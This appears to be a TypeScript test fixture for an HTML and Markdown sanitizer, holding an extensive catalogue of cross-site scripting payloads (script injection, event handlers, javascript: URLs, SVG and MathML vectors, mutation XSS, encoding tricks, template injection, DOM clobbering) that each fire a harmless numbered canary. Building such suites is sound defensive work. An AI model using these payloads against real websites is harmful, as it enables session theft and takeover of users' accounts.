/** What would tell on itself if it ran: `RUN` becomes a call of `hit`, `AWAY` an address elsewhere. */
const scripts = `
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=AWAY></script>
<script/src="AWAY"></script>
<script
>RUN</script
>
<script type="module">RUN</script>
<script>/*</p>*/RUN</script>
<<script>script>RUN<</script>/script>
<scr<script>ipt>RUN</scr</script>ipt>
"><script>RUN</script>
'><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="AWAY"></iframe>
<object data="AWAY"></object>
<embed src="AWAY">
<base href="AWAY/">
<meta http-equiv="refresh" content="0;url=AWAY">
<link rel="stylesheet" href="AWAY">
<link rel="import" href="AWAY">
<link rel="preload" as="script" href="AWAY">
<portal src="AWAY"></portal>
<frameset onload="RUN"></frameset>
<template shadowrootmode="open"><script>RUN</script></template>
<noscript><p title="</noscript><script>RUN</script>">
<xmp><p title="</xmp><script>RUN</script>">
<plaintext><script>RUN</script>
<isindex action="javascript:RUN" type=image>
<form action="javascript:RUN"><button>x</button></form>
<form><button formaction="javascript:RUN">x</button></form>
<form id=f action="AWAY"></form><button form=f>x</button>
<input type=image src=AWAY formaction="javascript:RUN">
<applet code="AWAY"></applet>
<bgsound src="AWAY">
<audio src="AWAY" autoplay></audio>
<video src="AWAY" autoplay></video>
<video poster="AWAY"></video>
<track src="AWAY">
<source srcset="AWAY">
<img srcset="AWAY 1x" src="x">
<picture><source srcset="AWAY"><img src="x"></picture>
<input type=image src="AWAY">
<table background="AWAY"><tr><td background="AWAY">x</td></tr></table>
<body background="AWAY">
`

const events = `load error focus blur click mouseover mouseenter pointerover pointerenter toggle animationstart
animationend transitionend wheel scroll scrollend copy cut paste drag dragstart keydown keyup beforeinput input change
submit reset resize hashchange pageshow message popstate beforetoggle cancel canplay loadstart play seeked begin end
contextmenu auxclick selectstart`.split(/\s+/)

const tags = ['img src=x', 'svg', 'details open', 'input autofocus', 'video src=x', 'body', 'a href=# tabindex=1', 'p']

const addresses = `
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
java	script:RUN
java&#10;script:RUN
java&#x09;script:RUN
&#106;avascript:RUN
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN
javascript&colon;RUN
javascript&#58;RUN
java%73cript:RUN
jav&Tab;ascript:RUN
\\u006aavascript:RUN
javascript://%0aRUN
javascript:/*x*/RUN
vbscript:RUN
livescript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>
data:,RUN
blob:https://elsewhere.invalid/x
filesystem:https://elsewhere.invalid/x
feed:javascript:RUN
view-source:javascript:RUN
jar:AWAY!/x
mhtml:AWAY
//elsewhere.invalid/RUN
/\\elsewhere.invalid/RUN
https:javascript:RUN
`

const vectors = `
<svg onload=RUN></svg>
<svg><script>RUN</script></svg>
<svg><script href="AWAY"/></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><animate attributeName=href values="javascript:RUN" begin=0s /><a><text>x</text></a></svg>
<svg><set attributeName=onload to=RUN /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><image href="AWAY" /></svg>
<svg><style>@import 'AWAY';</style></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s />
<math href="javascript:RUN">x</math>
<math><mtext href="javascript:RUN">x</mtext></math>
<math><maction actiontype="statusline#AWAY" xlink:href="javascript:RUN">x</maction></math>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></semantics></math>
`

/** Trees that a browser writes down otherwise than it reads them. */
const mutations = `
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RUN>">
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<p id="</p><img src=x onerror=RUN>">
<a href="&quot;><img src=x onerror=RUN>">x</a>
<img alt="\`\`onerror=RUN " src=x>
<table><td><a><table><img src=x onerror=RUN></a></table>
<select><template><img src=x onerror=RUN></template></select>
<option><style></option></select><img src=x onerror=RUN></style>
<svg><desc><noscript></desc></svg><img src=x onerror=RUN></noscript>
<title><img src=x onerror=RUN></title>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><img src=x onerror=RUN>
<!--><img src=x onerror=RUN>-->
<!--!><img src=x onerror=RUN>-->
<! foo="><img src=x onerror=RUN>">
</ foo="><img src=x onerror=RUN>">
<div <img src=x onerror=RUN>
<img """><script>RUN</script>">
<img src=x:x onerror
=RUN>
<img/src=x/onerror=RUN//
<img src=x on\u0000error=RUN>
<img src="x\`\`onerror=RUN">
`

const encoded = `
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;img src=x onerror=RUN&#62;
&#x3c;img src=x onerror=RUN&#x3e;
%3Cscript%3ERUN%3C/script%3E
%253Cimg%20src=x%20onerror=RUN%253E
\\x3cimg src=x onerror=RUN\\x3e
\\u003cimg src=x onerror=RUN\\u003e
+ADw-script+AD4-RUN+ADw-/script+AD4-
\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E
\u2039img src=x onerror=RUN\u203A
<\u017Fcript>RUN</\u017Fcript>
<img src=x onerror&#61;RUN>
<img src=x onerror="&#104;it(1)">
<ım\u0307g src=x onerror=RUN>
`

const templates = [
  '{{constructor.constructor("RUN")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the payload
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{%raw%}{{RUN}}',
  '{{=RUN}}',
  '[[RUN]]',
  '[[RUN|<img src=x onerror=RUN>]]',
  '{"__proto__":{"onerror":"RUN"}}',
  '<div v-html="RUN" ng-app ng-csp>{{$on.constructor("RUN")()}}</div>',
  '<div data-swap="x" data-card="RUN" data-on="RUN" is="x">x</div>',
  '<button data-action="RUN" hx-get="AWAY" hx-on:click="RUN">x</button>',
]

const markdown = `
![x](AWAY "x" onerror=RUN)
![x" onerror="RUN](x)
[x](x" onclick="RUN)
[x](x 'y" onmouseover="RUN')
[x](<javascript:RUN>)
[x][r1]

[r1]: javascript:RUN
[r2]: AWAY "><img src=x onerror=RUN>"

[x][r2]
<javascript:RUN>
<AWAY" onclick="RUN">
[^f"><img src=x onerror=RUN>]

[^f"><img src=x onerror=RUN>]: x
| a" onclick="RUN | b |
|---|---|
| <img src=x onerror=RUN> | [x](javascript:RUN) |
$\\href{javascript:RUN}{x}$
$\\url{javascript:RUN}$
$\\includegraphics{AWAY}$
$\\text{<img src=x onerror=RUN>}$
$\\class{x" onclick="RUN}{y}$
$\\style{background:url(AWAY)}{y}$
$$\\htmlData{x="><img src=x onerror=RUN>}{y}$$
# <img src=x onerror=RUN>
\`<img src=x onerror=RUN>\`
~~~"><script>RUN</script>
x
~~~
> <img src=x onerror=RUN>
- [ ] <img src=x onerror=RUN>
@"><img src=x onerror=RUN>
||<img src=x onerror=RUN>||
https://elsewhere.invalid/"onmouseover=RUN
www.elsewhere.invalid"><img src=x onerror=RUN>
mailto:a@b.invalid?"><img src=x onerror=RUN>
`

const styles = `
<style>*{background:url(AWAY)}</style>
<p style="background:url(AWAY)">x</p>
<p style="background-image:\\75rl(AWAY)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<p style="width:expression(RUN)">x</p>
<p style="behavior:url(AWAY)">x</p>
<p style="-moz-binding:url(AWAY)">x</p>
<style>@import "AWAY";</style>
<link rel=stylesheet href="data:text/css,*{background:url(AWAY)}">
<style>@font-face{font-family:x;src:url(AWAY)}p{font-family:x}</style>
<p class="button notice column" id="main">x</p>
<font color="expression(RUN)">x</font>
`

const clobbering = `
<form id=forms><input name=attributes><input name=nodeName></form>
<a id=hit href="AWAY">x</a><a id=hit name=call href="AWAY">y</a>
<img name=getElementById>
<img name=body><img name=head><img name=cookie>
<form name=document><input name=querySelector></form>
<input name=__proto__ value=x>
<p id=constructor>x</p>
<iframe name=hit></iframe>
<form id=x><output name=textContent>y</output></form>
<object id=location data="AWAY"></object>
`

const bidi = `
\u202E<script>RUN</script>\u202C
<\u200Bscript>RUN</script>
\u2066\u202Etpircs\u2069<img src=x onerror=RUN>
java\u200Bscript:RUN
<img src=x \u2028onerror=RUN>
<img\u00A0src=x\u3000onerror=RUN>
\uFEFF<img src=x onerror=RUN>
\u0085<img src=x onerror=RUN>
`

const several = (text: string) => text.trim().split('\n')
/** Payloads of several lines begin where a blank line or another kind of line begins. */
const whole = (text: string) => text.trim().split(/\n(?=[<[!&%\\|#~>@$`\-+h"'w]|m(?=ailto))/)

const handlers = events.flatMap((event, n) => [n, n + 3].map((at) => `<${tags[at % tags.length]} on${event}=RUN>x`))
const linked = addresses
  .split('\n')
  .filter((address) => address !== '')
  .flatMap((address) => [`<a href="${address}">x</a>`, `[x](${address})`, `![x](${address})`])

/** By technique. */
export const collection: Record<string, readonly string[]> = {
  scripts: whole(scripts),
  handlers,
  addresses: [...addresses.split('\n').filter(Boolean), ...linked],
  vectors: several(vectors),
  mutations: whole(mutations),
  encoded: several(encoded),
  templates,
  markdown: whole(markdown),
  styles: several(styles),
  clobbering: several(clobbering),
  bidi: several(bidi),
}

/** What may take the rest of a text with it stands last in it. */
const swallows = /<!|<(?:textarea|title|style|xmp|noscript|plaintext|template|select|listing)|~~~|CDATA|<\?/i

/** All payloads, each with a number of its own to tell on itself by. */
export const payloads: readonly string[] = Object.values(collection)
  .flat()
  .map((text, n) => text.replaceAll('RUN', `hit(${n})`).replaceAll('AWAY', `https://elsewhere.invalid/${n}`))

/** Several in one text, each a block of its own. */
export const bundled = (some: readonly string[]) =>
  some.toSorted((a, b) => Number(swallows.test(a)) - Number(swallows.test(b))).join('\n\n')
